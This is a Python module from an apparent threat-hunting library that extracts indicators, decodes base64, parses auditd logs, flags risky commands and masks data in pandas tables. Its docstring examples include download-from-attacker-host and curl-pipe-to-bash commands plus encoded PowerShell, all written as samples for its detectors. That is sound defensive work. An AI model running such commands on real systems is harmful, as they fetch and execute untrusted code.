"""Security transforms on DataFrames: IoC extraction, base64 unpacking, auditd,
command-line rules, masking.

Each function takes and returns pandas DataFrames with MSTICPy's column names, so code
written for MSTICPy keeps working; the work runs in Rust, on all cores, without the
GIL. Process trees are in :mod:`huntbook.proctree`.

Example::

    import huntbook
    iocs = huntbook.extract_iocs(events, columns=["CommandLine"])
    iocs.groupby("IoCType").size()
    decoded = huntbook.unpack_base64(events, column="CommandLine")
    decoded[["decoded_string", "file_type", "sha256"]]
"""

from __future__ import annotations

import os
import warnings
from typing import Dict, Iterable, List, Optional, Sequence, Tuple, Union

import numpy as np
import pandas as pd

from huntbook import _huntbook
from huntbook._tables import text_batch, to_batch, to_frame

__all__ = [
    "extract_iocs",
    "ioc_type",
    "validate_ioc",
    "file_hash_type",
    "unpack_base64",
    "parse_auditd",
    "AuditdWarning",
    "mask",
    "MASK_KEY_VARIABLE",
    "risky_commands",
    "cmd_speed",
]

#: The environment variable :func:`mask` reads its key from.
MASK_KEY_VARIABLE = "HUNTBOOK_MASK_KEY"


def extract_iocs(
    data: pd.DataFrame,
    columns: Union[str, Sequence[str]],
    ioc_types: Optional[Iterable[str]] = None,
    *,
    include_paths: bool = False,
    ignore_tlds: bool = False,
    defanged: bool = True,
    refang: bool = False,
    custom_types: Sequence[Tuple[str, str, int]] = (),
) -> pd.DataFrame:
    """Find indicators (IPs, domains, URLs, emails, hashes, paths) in text columns.

    Returns one row per indicator per source row, with MSTICPy's ``extract_df``
    columns ``IoCType, Observable, SourceIndex, Input``; ``SourceIndex`` is the index
    label of the source row.

    Args:
        data: the events.
        columns: the text column(s) to scan.
        ioc_types: only these types (MSTICPy's names such as ``ipv4``, ``url``,
            ``sha256_hash``; short names such as ``sha256`` work too). Default: every
            type except the paths.
        include_paths: with the default types, also find ``windows_path``.
        ignore_tlds: keep domains whatever their top-level domain.
        defanged: also match defanged spellings (``hxxp``, ``[.]``, ``[at]``).
        refang: report defanged indicators in their plain form.
        custom_types: extra types as ``(name, regex, priority)``; a lower priority
            number wins when one string fits several types.

    Example::

        >>> df = pd.DataFrame({"cmd": ["curl hxxp://evil[.]com/a -o /tmp/x"]})
        >>> huntbook.extract_iocs(df, "cmd", refang=True)[["IoCType", "Observable"]]
          IoCType        Observable
        0     dns          evil.com
        1     url  http://evil.com/a
    """
    columns = [columns] if isinstance(columns, str) else list(columns)
    batch = _huntbook.extract_iocs(
        text_batch(data, columns),
        columns,
        ioc_types=None if ioc_types is None else list(ioc_types),
        include_paths=include_paths,
        ignore_tlds=ignore_tlds,
        defanged=defanged,
        refang=refang,
        custom_types=[(str(n), str(r), int(p)) for n, r, p in custom_types],
    )
    result = to_frame(batch)
    rows = result["SourceIndex"].to_numpy()
    sources = result.pop("SourceColumn").to_numpy()
    result["SourceIndex"] = data.index.take(rows)
    # The scanned cells themselves, as MSTICPy returns them: no copy of their text.
    inputs = np.empty(len(result), dtype=object)
    for position, name in enumerate(columns):
        here = sources == position
        inputs[here] = data[name].to_numpy(dtype=object)[rows[here]]
    result["Input"] = inputs
    return result


def ioc_type(value: str) -> Optional[str]:
    """The type of one observable, or ``None``.

    Example::

        >>> huntbook.ioc_type("hxxps://evil-site[.]com/a")
        'url'
    """
    return _huntbook.ioc_type(value)


def validate_ioc(value: str, ioc_type: str) -> bool:
    """Whether the whole of ``value`` is a valid indicator of ``ioc_type``.

    Example::

        >>> huntbook.validate_ioc("10.0.0.300", "ipv4")
        False
    """
    return _huntbook.validate_ioc(value, ioc_type)


def file_hash_type(value: str) -> Optional[str]:
    """``md5_hash``, ``sha1_hash`` or ``sha256_hash`` from a hex string's length.

    Example::

        >>> huntbook.file_hash_type("d41d8cd98f00b204e9800998ecf8427e")
        'md5_hash'
    """
    return _huntbook.file_hash_type(value)


def unpack_base64(
    data: pd.DataFrame,
    column: str,
    *,
    utf16: Optional[bool] = None,
    msticpy_compatible: bool = False,
    max_depth: int = 20,
) -> pd.DataFrame:
    """Decode base64 (and the zip, gzip and tar archives inside it) in a text column.

    Returns MSTICPy's ``unpack_df`` columns: ``reference, original_string, file_name,
    file_type, input_bytes, decoded_string, encoding_type, file_hashes, md5, sha1,
    sha256, printable_bytes, src_index`` (the source row's index label), the input
    column and ``full_decoded_string`` (the text with each decoded fragment replaced
    by ``<decoded ...>`` markup). Decoding bombs are stopped by size, expansion and
    depth caps and reported as rows with ``encoding_type == "error"``.

    Args:
        data: the events.
        column: the text column to decode.
        utf16: ``None`` tells UTF-16LE text (PowerShell ``-EncodedCommand``) from
            UTF-8 by itself; ``True`` / ``False`` force it on or off.
        msticpy_compatible: decode exactly as MSTICPy does (no UTF-16, hex runs
            decoded), for comparisons.
        max_depth: nested levels decoded after the first.

    Example::

        >>> cmd = "powershell -enc dwBoAG8AYQBtAGkA"
        >>> huntbook.unpack_base64(pd.DataFrame({"cmd": [cmd]}), "cmd")["decoded_string"][0]
        'whoami'
    """
    batch = _huntbook.unpack_base64(
        text_batch(data, [column]),
        column,
        utf16=utf16,
        msticpy_compatible=msticpy_compatible,
        max_depth=max_depth,
    )
    result = to_frame(batch)
    result["src_index"] = data.index.take(result["src_index"].to_numpy())
    return result


class AuditdWarning(UserWarning):
    """An audit log line or row that could not be read (the rest still are)."""


def parse_auditd(
    source: Union[str, "os.PathLike[str]", pd.DataFrame],
    *,
    input_column: str = "AuditdMessage",
    event_type: Optional[str] = None,
    all_fields: bool = False,
) -> pd.DataFrame:
    """Linux audit events as a table, from a raw ``audit.log`` or from Sentinel rows.

    Records are grouped by their serial; ``SYSCALL`` + ``EXECVE`` (+ ``CWD``,
    ``PROCTITLE``) become one ``SYSCALL_EXECVE`` event with the command line, and
    hex-encoded fields are decoded. Lines that cannot be read are reported as
    :class:`AuditdWarning` with their line number; the rest are still parsed.

    Args:
        source: the path of a raw audit log, or a DataFrame of Sentinel
            ``AuditLog``-style rows (one event's records per row in ``input_column``).
        input_column: the column holding the records, for a DataFrame.
        event_type: keep only events of this type, e.g. ``"SYSCALL_EXECVE"``.
        all_fields: keep every field instead of MSTICPy's selection.

    Example::

        >>> events = huntbook.parse_auditd("/var/log/audit/audit.log", event_type="SYSCALL_EXECVE")
        >>> events[["TimeGenerated", "exe", "cmdline"]].head()
    """
    if isinstance(source, pd.DataFrame):
        batch, problems = _huntbook.parse_auditd_table(
            to_batch(source), input_column, event_type=event_type, all_fields=all_fields
        )
    else:
        batch, problems = _huntbook.parse_auditd_file(
            os.fspath(source), event_type=event_type, all_fields=all_fields
        )
    for problem in problems:
        warnings.warn(problem, AuditdWarning, stacklevel=2)
    return to_frame(batch)


def risky_commands(
    data: pd.DataFrame,
    cmd_column: str = "Command",
    *,
    time_column: str = "TimeGenerated",
    rules: Optional[Union[str, "os.PathLike[str]"]] = None,
) -> pd.DataFrame:
    """Command lines that match risky-command rules (download-and-execute, encoded
    PowerShell, authorized_keys changes, fork bombs, log wiping, ...).

    Base64 inside a command is decoded first and checked too. Returns one row per hit:
    ``SourceIndex`` (the source row's index label), ``TimeGenerated`` (when the input
    has it), ``Command, RuleId, RuleName, Severity, MatchedText, MatchedIn``.

    Args:
        data: the commands, e.g. from :func:`parse_auditd` (``cmd_column="cmdline"``).
        cmd_column: the column with the command lines (MSTICPy's default ``Command``).
        time_column: copied into the result when present.
        rules: a JSON rule file (huntbook's or MSTICPy's layout) instead of the
            shipped rules.

    Example::

        >>> cmds = pd.DataFrame({"Command": ["curl -s http://203.0.113.9/x | bash"]})
        >>> huntbook.risky_commands(cmds)[["RuleName", "Severity"]]
    """
    columns = [c for c in (cmd_column, time_column) if c in data.columns] or [cmd_column]
    batch = _huntbook.risky_commands(
        to_batch(data, columns),
        cmd_column,
        time_column,
        rules_path=None if rules is None else os.fspath(rules),
    )
    result = to_frame(batch)
    result["SourceIndex"] = data.index.take(result["SourceIndex"].to_numpy())
    return result


def cmd_speed(
    data: pd.DataFrame,
    cmd_column: str = "Command",
    *,
    time_column: str = "TimeGenerated",
    session_column: Optional[str] = None,
    time_window: float = 5.0,
    events: int = 10,
) -> pd.DataFrame:
    """Bursts of commands too fast for a person: ``events`` + 1 commands within
    ``time_window`` seconds, per session when ``session_column`` is given.

    Returns one row per burst: ``Session, StartTime, EndTime, DeltaSeconds,
    SourceIndexes`` (the index labels of the commands), ``Commands``.

    Example::

        >>> huntbook.cmd_speed(events, "cmdline", session_column="ses", time_window=2, events=5)
    """
    columns = [c for c in (cmd_column, time_column, session_column) if c]
    batch = _huntbook.cmd_speed(
        to_batch(data, columns), cmd_column, time_column, session_column, time_window, events
    )
    result = to_frame(batch)
    result["SourceIndexes"] = [list(data.index.take(rows)) for rows in result["SourceIndexes"]]
    return result


def mask(
    data: pd.DataFrame,
    columns: Optional[Dict[str, str]] = None,
    *,
    use_default: bool = True,
) -> pd.DataFrame:
    """Replace names, addresses, GUIDs, SIDs and accounts with consistent pseudonyms.

    The same value always gets the same pseudonym under one key, so joins and counts
    still work on the masked data. IP addresses keep private and well-known prefixes,
    SIDs keep their well-known prefix and RID. The key is read from the
    ``HUNTBOOK_MASK_KEY`` environment variable (a secret: keep it to mask more data
    the same way later).

    Args:
        data: the table to mask.
        columns: column → type, MSTICPy's names: ``str``, ``ip``, ``uuid``, ``sid``,
            ``acct``, ``dict``, ``list``, ``null``, ``keep``, or delimiter characters
            such as ``"@."`` (each token between them masked); these override the
            shipped map of MSTICPy's column names.
        use_default: start from the shipped map; ``False`` masks only ``columns``.

    Example::

        >>> os.environ["HUNTBOOK_MASK_KEY"] = "team secret"   # usually set outside
        >>> huntbook.mask(signins, {"UserPrincipalName": "acct"})
    """
    key = os.environ.get(MASK_KEY_VARIABLE)
    if not key:
        raise ValueError(
            f"no masking key: set the {MASK_KEY_VARIABLE} environment variable to a "
            "secret of your choice (the same key gives the same pseudonyms)"
        )
    batch = _huntbook.mask(
        to_batch(data), key.encode(), columns=dict(columns or {}), use_default=use_default
    )
    result = to_frame(batch)
    result.index = data.index
    return result
